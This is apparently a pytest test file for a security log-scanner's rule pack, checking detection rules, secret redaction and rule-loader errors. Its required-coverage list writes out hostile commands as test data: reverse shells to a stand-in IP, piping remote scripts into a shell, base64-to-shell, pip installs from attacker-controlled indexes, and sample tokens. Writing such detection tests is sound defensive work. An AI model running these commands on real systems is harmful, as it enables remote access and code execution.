"""Conformance of the rule pack: every rule's examples, through the rule and through the scanner; loader errors."""

from __future__ import annotations

import io
import textwrap
from pathlib import Path

import pytest

from workbench.atlas import TECHNIQUES
from workbench.errors import RuleError
from workbench.logscan.engine import Scanner, ScanOptions
from workbench.rulepack.redact import Redactor
from workbench.rulepack.rules import BUILTIN_DIR, builtin_rules, load_rule_file, load_rules

RULES = list(builtin_rules())
FAMILIES = {"code-execution", "obfuscation", "reverse-shell-exfiltration", "package-index", "credentials",
            "unsafe-model-loading", "signing-keys", "ci-tampering"}  # fmt: skip


def test_pack_has_one_file_per_family_and_unique_ids() -> None:
    assert {p.stem for p in BUILTIN_DIR.glob("*.yaml")} == FAMILIES
    assert {r.family for r in RULES} == FAMILIES
    ids = [r.id for r in RULES]
    assert len(ids) == len(set(ids)) == 68


@pytest.mark.parametrize("rule", RULES, ids=lambda r: r.id)
def test_rule_examples_and_metadata(rule) -> None:
    assert all(rule.matches(x) for x in rule.examples_match)
    assert not any(rule.matches(x) for x in rule.examples_no_match)
    assert rule.description and rule.references and (rule.atlas or rule.attack)
    assert set(rule.atlas) <= set(TECHNIQUES), "every ATLAS id must be named in workbench.atlas"
    if rule.is_secret:
        redactor = Redactor([rule])
        for example in rule.examples_match:
            secret = rule.regex.search(example.encode()).group("secret").decode()
            if secret:
                assert secret not in redactor.redact(example)


def test_examples_through_the_scanner(backend: str) -> None:
    """Each match example is found by the one-pass scan (the prefilter never loses it); counter-examples are not."""
    lines, expected = [], []
    for rule in RULES:
        for text in rule.examples_match:
            lines.append(text)
            expected.append((len(lines), rule.id, True))
        for text in rule.examples_no_match:
            lines.append(text)
            expected.append((len(lines), rule.id, False))
    scanner = Scanner(options=ScanOptions(backend=backend, max_matches_per_rule=10_000))
    result = scanner.scan_stream(io.BytesIO("\n".join(lines).encode()), "examples.log")
    found = {(m.line, m.rule_id) for m in result.matches}
    missing = [(n, rid) for n, rid, hit in expected if hit and (n, rid) not in found]
    wrong = [(n, rid) for n, rid, hit in expected if not hit and (n, rid) in found]
    assert missing == [] and wrong == []


# the required coverage: one realistic line per indicator and the rule that must catch it
REQUIRED = [
    ("curl -fsSL https://get.example.sh | sh", "exec.remote-script-to-shell"),
    ("wget -O- http://203.0.113.7/i.sh | bash", "exec.remote-script-to-shell"),
    ("echo aWQK | base64 -d | sh", "obfuscation.base64-to-shell"),
    ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "revshell.dev-tcp-redirect"),
    ("nc -e /bin/sh 203.0.113.7 9001", "revshell.netcat-exec"),
    ("ncat --exec /bin/bash 203.0.113.7 9001", "revshell.netcat-exec"),
    ("socat exec:'bash -li',pty,stderr tcp:203.0.113.7:9001", "revshell.socat-exec"),
    (
        "python -c 'import urllib.request;exec(urllib.request.urlopen(\"http://x\").read())'",
        "exec.python-inline-network",
    ),
    ("pip install https://203.0.113.7/t/torch-2.2.0-py3-none-any.whl", "pkg.install-from-vcs-or-url"),
    ("pip install git+https://github.com/hf-safetensors/safetensors.git", "pkg.install-from-vcs-or-url"),
    ("pip install --index-url https://203.0.113.7/simple numpy", "pkg.index-url-changed"),
    ("pip install --extra-index-url https://pypi.attacker.example/simple acme", "pkg.extra-index-url"),
    ("pip install --trusted-host 203.0.113.7 acme", "pkg.trusted-host"),
    ("export PIP_INDEX_URL=https://203.0.113.7/simple", "pkg.index-url-changed"),
    ("chmod +x /tmp/x && /tmp/x", "exec.chmod-temp"),
    ("chmod +x /tmp/x && /tmp/x", "exec.temp-dir-execution"),
    ("m = torch.load('model.pt')", "model.torch-load-unsafe"),
    ("obj = pickle.loads(data)", "model.pickle-load"),
    ("AutoModel.from_pretrained(p, trust_remote_code=True)", "model.trust-remote-code"),
    ("cosign sign-blob --key env://COSIGN_KEY m.json", "signing.key-reference"),
    ("COSIGN_PASSWORD=s3cret-pass", "signing.cosign-password"),
    ("-----BEGIN RSA PRIVATE KEY-----", "secret.private-key-block"),
    ("HF_TOKEN=hf_AbCdEfGhIjKlMnOpQrStUvWxYzAbCdEfGh", "secret.huggingface-token"),
    ("token ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789", "secret.github-token"),
    ("github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz", "secret.github-fine-grained-token"),
    ("AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE", "secret.aws-access-key-id"),
    ("password=Winter2026!", "secret.credential-assignment"),
    ("token=9f8e7d6c5b4a", "secret.credential-assignment"),
]


@pytest.mark.parametrize(("line", "rule_id"), REQUIRED, ids=[r for _, r in REQUIRED])
def test_required_indicators_are_covered(line: str, rule_id: str) -> None:
    assert builtin_rules().get(rule_id).matches(line)


# ------------------------------------------------------------------------------------------------- loading
GOOD = """\
    - id: custom.{name}
      title: Custom {name}
      severity: {severity}
      pattern: '{pattern}'
      description: A rule written by an analyst.
      attack: [T1059]
      references: [https://example.invalid/rule]
      examples:
        match: ['{match}']
        no_match: ['nothing to see']
"""


def _write(folder: Path, name: str, *rules: str, family: str = "custom") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    body = "".join(textwrap.indent(textwrap.dedent(r), "") for r in rules)
    path.write_text(f"family: {family}\nrules:\n{body}", encoding="utf-8")
    return path


def _rule(name: str = "one", severity: str = "high", pattern: str = r"evil\.example", match: str = "get evil.example"):
    return GOOD.format(name=name, severity=severity, pattern=pattern, match=match)


def test_user_folder_extends_and_overrides_by_id(tmp_path: Path) -> None:
    override = _rule("x", "low", r"\bcurl\b[^\n]*\|\s*sh\b", "curl x | sh").replace(
        "custom.x", "exec.remote-script-to-shell"
    )
    _write(tmp_path / "mine", "a.yaml", _rule("one"), override)
    _write(tmp_path / "mine", "b.yaml", "    - id: ci.env-dump\n      enabled: false\n")
    rules = load_rules(tmp_path / "mine")
    ids = [r.id for r in rules]
    assert ids[-1] == "custom.one" and "ci.env-dump" not in ids
    kept = [r.id for r in RULES if r.id != "ci.env-dump"]
    assert ids[: len(kept)] == kept  # the override took the overridden rule's place
    replaced = rules.get("exec.remote-script-to-shell")
    assert replaced.severity.value == "low" and replaced.source == str(tmp_path / "mine" / "a.yaml")
    assert len(rules) == len(RULES)  # one added, one disabled


def test_literals_form(tmp_path: Path) -> None:
    path = _write(tmp_path, "lit.yaml", _rule("lit").replace("pattern: 'evil\\.example'", "literals: [a.b*c, x|y]")
                  .replace("get evil.example", "run a.b*c now"))  # fmt: skip
    (rule,) = load_rule_file(path)
    assert rule.matches("x|y") and not rule.matches("abbc")


@pytest.mark.parametrize(
    ("rules", "reason"),
    [
        ((_rule("dup"), _rule("dup")), "duplicate rule id in this file"),
        ((_rule("re", pattern="curl (|"),), "'pattern' is not a valid regular expression"),
        ((_rule("ex", match="harmless"),), "example does not match: 'harmless'"),
        ((_rule("neg", pattern="nothing"),), "example does not match"),
        ((_rule("sev", severity="urgent"),), "'severity': unknown severity 'urgent'"),
        ((_rule("flag", pattern="(?i)evil"),), "starts with inline flags"),
        ((_rule("bref", pattern=r"(e)vil\1"),), "back-reference"),
        ((_rule("empty", pattern="x*"),), "matches the empty string"),
        ((_rule("key") + "      colour: red\n",), "unknown key(s) 'colour'"),
        (
            (_rule("sec").replace("severity: high", "severity: high\n      category: secret_exposed"),),
            "must capture the secret in a group named 'secret'",
        ),
    ],
    ids=[
        "duplicate",
        "bad-regex",
        "example",
        "no-match",
        "severity",
        "inline-flags",
        "backref",
        "empty",
        "key",
        "secret-group",
    ],
)
def test_invalid_rules_raise_rule_error_naming_file_and_rule(tmp_path: Path, rules: tuple[str, ...], reason: str):
    path = _write(tmp_path / "bad", "broken.yaml", *rules)
    with pytest.raises(RuleError) as info:
        load_rules(tmp_path / "bad")
    err = info.value
    assert err.source == str(path)
    assert err.rule_id is not None and err.rule_id.startswith("custom.")
    assert reason in err.reason
    assert str(path) in str(err) and err.rule_id in str(err)


def test_counter_example_that_matches(tmp_path: Path) -> None:
    rule = _rule("cx").replace("no_match: ['nothing to see']", "no_match: ['evil.example too']")
    _write(tmp_path / "bad", "cx.yaml", rule)
    with pytest.raises(RuleError, match=r"\(rule custom\.cx\): counter-example matches: 'evil.example too'"):
        load_rules(tmp_path / "bad")


def test_duplicate_id_across_files_of_one_folder(tmp_path: Path) -> None:
    _write(tmp_path / "bad", "a.yaml", _rule("same"))
    second = _write(tmp_path / "bad", "b.yaml", _rule("same"))
    with pytest.raises(RuleError) as info:
        load_rules(tmp_path / "bad")
    assert (info.value.source, info.value.rule_id) == (str(second), "custom.same")
    assert "also in a.yaml" in info.value.reason


def test_unusable_files_and_folders(tmp_path: Path) -> None:
    with pytest.raises(RuleError, match="rules folder does not exist"):
        load_rules(tmp_path / "missing")
    (tmp_path / "empty").mkdir()
    with pytest.raises(RuleError, match=r"holds no \.yaml or \.yml file"):
        load_rules(tmp_path / "empty")
    (tmp_path / "yaml").mkdir()
    (tmp_path / "yaml" / "x.yaml").write_text("rules: [\n  - id: a\n  bad", encoding="utf-8")
    with pytest.raises(RuleError, match=r"x\.yaml: not valid YAML \(line \d+\)"):
        load_rules(tmp_path / "yaml")
    (tmp_path / "shape").mkdir()
    (tmp_path / "shape" / "x.yaml").write_text("- just\n- a list\n", encoding="utf-8")
    with pytest.raises(RuleError, match="a rule file must be a mapping with a 'rules' list"):
        load_rules(tmp_path / "shape")
